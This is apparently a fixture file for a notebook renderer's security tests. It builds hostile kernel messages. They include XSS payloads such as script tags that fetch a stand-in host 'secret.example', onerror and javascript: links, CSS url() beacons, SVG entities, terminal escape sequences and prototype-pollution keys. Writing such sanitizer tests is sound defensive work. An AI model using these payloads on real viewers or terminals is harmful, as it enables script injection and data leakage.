"""What a hostile kernel would say of each kind, for test_hostile.py: lists of messages as hostile_kernel.py takes them.

Whatever asks for it asks for a host under `secret.example`.
"""

import base64

URL = "https://secret.example/?d=1"
SCRIPT = f"<script>fetch('{URL}')</script>"
IMG = "<img src=x onerror=alert(1)>"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def coded(text):
    return base64.b64encode(text.encode()).decode()


def display(data, metadata=None, **more):
    return {"type": "display_data", "content": {"data": data, "metadata": metadata or {}, "transient": {}, **more}}


TYPES = [
    "application/javascript", "application/ecmascript", "text/javascript1.5", "module/javascript", "Text/Html", "text/html\0", "text/html ",
    "\ttext/html", "text/html;charset=utf-8", "text/htm\u217c", "application/xhtml+xml", "text/xml", "image/svg", "image/SVG+xml", "image/svg+xml;x",
    "text/vnd.mermaid", "application/geo+json", "application/pdf", "application/vnd.bokehjs_load.v0+json", "application/vnd.holoviews_exec.v0+json",
    "application/vnd.jupyter.widget-state+json", "application/vnd.jupyter.error", "application/vnd.code.notebook.error", "application/vdom.v1+json",
    "application/vnd.dataresource+json", "text/uri-list", "text/css", "video/mp4", "message/rfc822", "image/avif", "image/x-icon", "*/*", "", "text",
    "application/json\n", "application/papermill.record/application/javascript", "application/papermill.record/image/svg+xml", "k" * 5000,
    "application/papermill.record/application/papermill.record/text/html", "application/scrapbook.scrap.json+html", "text/plain\u202e",
    "application/vnd.colab-display-data+json", "https://secret.example/x", "www.secret.example/x", "data:text/html,x", "https:secret.example",
    "application/vnd.plotly.v2+json", "application/vnd.vega.v5+json ", "__proto__", "constructor",
]  # fmt: skip
BUNDLES = [
    {"text/html": ["<scr", f"ipt>fetch('{URL}')</scr", "ipt>"]}, {"text/html": {"text/html": SCRIPT}}, {"text/html": [SCRIPT, 3]},
    {"text/plain": ["http", "s:", "//secret.example"]}, {"text/plain": {"text/html": SCRIPT}}, {"image/png": '" onerror="x'},
    {"image/png": URL}, {"image/png": f"data:image/png;base64,{PNG}"}, {"image/png": coded("<svg onload='x'/>")},
    {"image/jpeg": coded("<html><script>1</script>")}, {"image/gif": [PNG[:20], '"', PNG[20:]]}, {"image/webp": coded("RIFFxxxxWAVE")},
    {"image/svg+xml": f"<svg onload='x'><image href='{URL}'/></svg>"}, {"image/svg+xml": f"<svg>\"></iframe>'{SCRIPT}"},
    {"image/svg+xml": f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{URL}'>]><svg>&x;</svg>"}, {"image/svg+xml": f"<!-- --><svg>{IMG}"},
    {"application/json": [f"\n```\n![x]({URL})", ["```", IMG]]}, {"application/json": {"__proto__": {"a": 1}, "b": [{"constructor": 1}]}},
    {"application/vnd.vegalite.v5+json": {"data": {"url": URL}, "mark": "bar"}},
    {"application/vnd.vega.v5+json": {"marks": [{"type": "image", "encode": {"enter": {"url": {"signal": "'https://'+'x'"}}}}]}},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": URL}]}, "config": {"plotlyServerURL": URL}}},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "nobody's", "version_major": 2}},
    {f"text/x{number}": "x" for number in range(400)},
]  # fmt: skip
METADATA = [
    {"isolated": True, "text/html": {"isolated": True}}, {"filenames": {"image/png": "../../x"}}, {"fragment": "*", "trusted": True},
    {"colab": {"custom_widget_manager": {"url": URL}}}, {"application/vnd.vegalite.v5+json": {"embed_options": {"patch": URL}}},
    {"image/png": {"width": '100%" onload="x', "height": -1, "unconfined": "x"}}, {"image/png": {"width": 10**8, "height": True}},
    {"needs_background": '"><script>'}, {"scrapbook": {"name": "\x1b[2J", "mime_prefix": "x", "evil": 1}}, {"papermill": {"name": "x" * 1000}},
    {"__proto__": {"isolated": True}}, {"jupyter": {"source_hidden": True}, "tags": ["x"]},
]  # fmt: skip
HTML = [
    SCRIPT, f"<img src={URL}>", "<b onclick=alert(1)>x</b>", f'<p style="background:url({URL})">x</p>', '<p style="color:\\72 ed">x</p>',
    '<p style="position: fixed; top: 0">x</p>', '<p style="color: var(--x)">x</p>', '<p style="margin: -500px">x</p>', '<p style="width: 99999px">x</p>',
    '<a href="javascript:alert(1)">x</a>', f'<a href="{URL}" ping="{URL}" target="_top">x</a>', '<img src="/api/shutdown">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">', f'<img src="data:image/png;base64,{PNG}" onerror="x">', '<p id="x">y</p>',
    '<b data-commandlinker-command="terminal:create-new">y</b>', '<p class="jp-Dialog">x</p>', f"<style>@import '{URL}';</style>x",
    f"<style scoped>.dataframe x{{background:url({URL})}}</style><p>x</p>", "<li\0nk rel=dns-prefetch href=//secret.example>x",
    "<LINK rel=preconnect href=//secret.example>x", "<meta http-equiv=x-dns-prefetch-control content=on>x", f"<object data={URL}>x</object>",
    f"<svg><use href={URL}#x></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=1>", '<noscript><p title="</noscript><img src=x onerror=1>">',
    f"<plaintext>{SCRIPT}", "<!--><img src=x onerror=1>-->", "<![CDATA[<img src=x onerror=1>]]>", "<p>x<p>y", "<table><p>x</p></table>", "<p><div>x</div></p>",
    f"<p>$\\href{{{URL}}}{{x}}$</p>", "<p>$<b></b>$\\style{color:red}{x}$</p>", "<p>&#36;\\unicode{x}&#36;</p>", "<P>x</P>", "<p/onclick=1>x</p>",
    '<p align="left"onclick="x">y</p>', "<p>\u202eabc\u2066</p>", "<p>&#27;[2J</p>", "<p>\x1b]52;c;x\x07\x9b2J</p>",
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="x"></iframe>', f"'\"></iframe>&quot;></iframe>{SCRIPT}", "<b>" * 3000,
    f'<form action="{URL}"><button>x</button></form>', f"<video poster={URL}>", "<scr<script>ipt>1</scr</script>ipt>", "<p>x</p><img src=x onerror=alert(1)//",
]  # fmt: skip
MARKDOWN = [
    f"[x]({URL})", "[x](javascript:alert(1))", "[x](<javascript:1>)", f"[x][y]\n\n[y]: {URL}", f"[x]\n\n[x]: {URL}", f"> [x]: {URL}\n\n![x]", f"![x]({URL})",
    f"\\![x]({URL})", f"[![a]({URL})](y)", f"[[x]({URL})](y)", f"[x\\]({URL})", "[x](//secret.example)", "[x](/api/shutdown)", f"<{URL}>", IMG, "<svg/onload=1>",
    "<!-- x --><img src=x>", "<?x?>", "&lt;img src=x onerror=1&gt;", "&#x3c;script&#x3e;", URL, "www.secret.example", "http\\://secret.example",
    "https:&#47;/secret.example", f"```mermaid\ngraph TD\nclick A '{URL}'\n```", "~~~ Mermaid\nx\n~~~", f"$\\href{{{URL}}}{{x}}$", "`x` <b>x</b>", "x\n===\n<b>",
    f"|a|\n|-|\n|[x]({URL})|", f"[^1]\n\n[^1]: ![x]({URL})", "<\0img src=x>", f"]\0({URL})", f"[x]\x1b[0m({URL})", f"!\b[x]({URL})", "\ud800<img src=x>",
    "![](attachment:x.png)", "<div\n onclick=1>", "</>", '```x" onclick="alert(1)\ny\n```', '~~~ x" autofocus="\ny',
    "```{image} //secret.example/x\n```", ":::{iframe} //secret.example/x\n:::",
    "Term\n\n~ ```{image} //secret.example/x\n  ```", "Term\n\n: - ~~~{image} //secret.example/x", ":::\u00a0{iframe} //secret.example/x\n:::",
    ":::\u2003{iframe} //secret.example/x\n:::", "> :::\ufeff{iframe} //secret.example/x\n> :::", "{download}`//secret.example/x`", "{math}`x`", "H{sub}`2`O",
    "{\u00a0download\n}``//secret.example/x``",
    '  ```$" onclick="alert(1)" x="$\nx\n  ```', '> ```@\\@0@@\n> y\n\n$" onclick="alert(1)$',
]  # fmt: skip
LATEX = [
    "\\href{javascript:1}{x}", f"$\\url{{{URL}}}$", "\\def\\x{1}", "\\let\\a\\b", "\\csname href\\endcsname{x}{y}", "\\require{html}", "\\style{x}{y}",
    "\\unicode{65}", "\\bbox[url(x)]{y}", "\\fcolorbox{red;background:url(x)}{x}{y}", '\\mmlToken{mi}[href="x"]{y}', IMG, f"$x$ ![y]({URL})", f"[x]({URL})",
    f"[x]: {URL}\n\n![x]", f"<{URL}>", URL, "\\hr\0ef{x}{y}", "\\h\x9bmref{x}{y}", "```mermaid\nx\n```", "x" * 70000, "\\DeclareMathOperator{\\x}{\\href{x}{y}}",
]  # fmt: skip
TEXT = [
    URL, "www.secret.example", "data:text/html,x", "ht\x1b[31mtps://secret.example", "https:\x1b[0m//secret.example", "http\0s://secret.example", "xdata\b\b\b\b",
    "xttps://secret.example\rh", "wxw\bw.secret.example", "xxx.secret.example\rwww\n", "https:secret.example", "http:\\\\secret.example", "xxxp:secret\rhtt\n",
    f"\x1b]8;;{URL}\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;cm0=\x07", "\x1b]0;t", "\x1b[2J\x1b[H", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x1b(0", "\x1bPq#0\x1b\\",
    "\x1b_Gx\x1b\\", "\x9b2J", f"\x9d8;;{URL}\x9cx", "\x90q\x9c", "\x85", "\u202e\u2066x\u2069", "\a\v\f\x7f", "\x1b[", "\x1b[31\x18mx", "\r" * 5000,
    "a\b" * 5000, f"{SCRIPT}{IMG}", "\x1b]1337;File=inline=1:AAAA\a", "\x1b[200~rm\x1b[201~", "\ud800://x", f"<a href='{URL}'>x</a>",
    "File x' style='background:url(//secret.example)' y='z:3, in f\n----> 3 x", "'><img src=x onerror=1>Cell In [1], line 6",
]  # fmt: skip
PIECES = [
    ["https:", "//secret.example"], ["https:/", "/secret.example"], ["http", "s://x"], ["w", "w", "w", ".secret"], ["ww", "w.secret"], ["da", "ta:x"],
    ["d", "a", "t", "a", ":x"], ["data", ":x"], ["dat", "a:x"], ["https", ":secret.example"], ["htt", "ps:secret.example"], ["https:", "secret.example"],
    ["https:\x1b[0", "m//x"], ["https:\x1b", "[0m//x"], ["https:x", "\b//secret"], ["https:", "\0", "//x"], ["https:", "\x1b[0m", "//x"], ["\x1b", "[2J"],
]  # fmt: skip
CONTENT = [
    '{"data":{"text/plain":"a","text\\u002fplain":"<b>"},"metadata":{}}', '{"data":{"text\\/html":"<script>1</script>"},"metadata":{}}',
    '{"data":{"text/html\\u0000":"<script>"},"metadata":{}}', '{"data":{"application/json":1e999},"metadata":{}}',
    '{"data":{"application/json":' + "[" * 200 + "]" * 200 + '},"metadata":{}}', '{"data":{"text/html":"<\\ud800script>1</script>"},"metadata":{}}',
    '{"data":{"text/html":"\udcc0\udcbcscript>1</script>"},"metadata":{}}', '{"data":{"text/plain":"x"},"metadata":{}}{}', '{"data":["text/html"],"metadata":[]}',
    '{"data":null,"metadata":null}', '{"data":{"text/plain":"x"},"metadata":"x","isolated":true}', '{"data":{"x":1,"__\\u0070roto__":{"x":1}},"metadata":{}}', "[]",
]  # fmt: skip


def streams():
    for text in TEXT:
        yield {"type": "stream", "content": {"name": "stderr", "text": text}}
        yield display({"text/plain": text})
        yield {"type": "error", "content": {"ename": text, "evalue": text, "traceback": [text, text], "data": {"text/html": SCRIPT}}}
        yield {"type": "stream", "content": {"name": "stdout", "text": "\n"}}
    for name in ("stdin", "stdout ", None, URL):
        yield {"type": "stream", "content": {"name": name, "text": "x"}}
    for pieces in PIECES:
        yield from ({"type": "stream", "content": {"name": "stdout", "text": piece}} for piece in [*pieces, "\n"])


def others():
    for name in ("Display_Data", "DISPLAY_DATA", "display-data", "pyout", "comm_info_request", "kernel_info_reply", "history_reply", "input_request", "data_pub"):
        yield {"type": name, "content": {"data": {"text/html": SCRIPT}, "metadata": {}, "text": "x", "name": "stdout", "status": "ok"}}
    for name in (URL, "__proto__", "x" * 5000, "", 1, None, {"a": 1}):
        yield display({"text/plain": "x"}, transient={"display_id": name, "evil": URL})
        update = {"data": {"text/html": SCRIPT}, "metadata": {"isolated": True}, "transient": {"display_id": name}}
        yield {"type": "update_display_data", "content": update}
    for count in (-1, 1e10, "1", None, 10**30, URL):
        yield {"type": "execute_result", "content": {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": count}}
    for parent in ({"msg_id": "guessed"}, {"username": URL}, {"session": "other"}, {"evil": URL}, None, {"msg_id": ["x"]}):
        yield {**display({"text/html": SCRIPT}), "parent": parent}
        yield {"type": "clear_output", "content": {"wait": "yes", "evil": URL}, "parent": parent}
    for header in ({"msg_id": "<img>"}, {"msg_id": None}, {"session": URL}, {"username": URL}, {"date": "<b>"}, {"version": 5.3}, {"__proto__": {"x": 1}}):
        yield {**display({"text/plain": "x"}), "header": header}
    for state in ("dead", "restarting", "Idle", "idle\n", 1, ["idle"]):
        yield {"type": "status", "content": {"execution_state": state, "evil": URL}}
    for target in ("www.secret.example", URL, "jupyter-lab-git:run", "Jupyter.Widget", "jupyter.widget.control", "__proto__", None):
        yield {"type": "comm_open", "content": {"comm_id": "e" * 32, "target_name": target, "data": {"state": {"_esm": SCRIPT}}, "target_module": None}}
        yield {"type": "comm_msg", "content": {"comm_id": "e" * 32, "data": {"method": "update", "state": {"value": SCRIPT}}}}


KINDS = {
    "types": [display({name: SCRIPT}) for name in TYPES] + [display({name: SCRIPT, "text/plain": "x"}) for name in TYPES],
    "bundles": [display({**data, "text/plain": "x"}) for data in BUNDLES] + [display(data) for data in BUNDLES],
    "metadata": [{**display({"text/html": "<b>x</b>", "image/png": PNG}, one), "metadata": {"isolated": True}, "buffers": 2} for one in METADATA],
    "html": [display({"text/html": text, "text/plain": "x"}) for text in HTML],
    "markdown": [display({"text/markdown": text}) for text in MARKDOWN],
    "latex": [display({"text/latex": text}) for text in LATEX],
    "text": list(streams()),
    "content": [{"type": "display_data", "raw": raw} for raw in CONTENT],
    "others": list(others()),
}
